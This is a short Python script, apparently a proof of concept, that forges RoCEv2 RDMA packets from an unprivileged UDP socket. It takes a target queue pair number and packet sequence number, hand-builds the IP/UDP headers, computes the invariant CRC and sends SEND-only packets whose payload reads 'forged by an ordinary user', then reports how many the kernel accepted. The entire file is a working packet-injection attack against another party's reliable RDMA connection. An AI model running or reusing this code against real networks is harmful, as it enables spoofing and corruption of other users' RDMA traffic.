# SPDX-License-Identifier: BSD-3-Clause
"""Send packets of an RC connection by an ordinary UDP socket, as any user may: datagrams.py SOURCE DESTINATION QPN PSN COUNT.
Prints how many the kernel has taken."""

import socket
import struct
import sys

from frames import ETHERNET, ICRC, IPV4, ROCE, UDP, icrc

SEND_ONLY, MIGRATED, DEFAULT_PKEY = 4, 0x40, 0xffff
IP_MTU_DISCOVER, IP_PMTUDISC_DO = 10, 2
DONT_FRAGMENT = 0x4000
PAYLOAD = b"forged by an ordinary user".ljust(32, b"\0")


def main():
    source, destination = sys.argv[1:3]
    qpn, psn, count = (int(word) for word in sys.argv[3:6])
    bth = struct.pack(">BBHII", SEND_ONLY, MIGRATED, DEFAULT_PKEY, qpn, psn)
    body = bth + PAYLOAD
    taken = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        # The ICRC covers the IP header: its identification is then 0.
        out.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER, IP_PMTUDISC_DO)
        out.bind((source, 0))
        length = UDP + len(body) + ICRC
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, IPV4 + length, 0, DONT_FRAGMENT, 64, socket.IPPROTO_UDP, 0,
                           socket.inet_aton(source), socket.inet_aton(destination))
        head += struct.pack(">4H", out.getsockname()[1], ROCE, length, 0)
        signed = body + icrc(bytes(ETHERNET) + head + body + bytes(ICRC))
        for _ in range(count):
            try:
                out.sendto(signed, (destination, ROCE))
                taken += 1
            except PermissionError:
                pass
    print(taken)


if __name__ == "__main__":
    main()
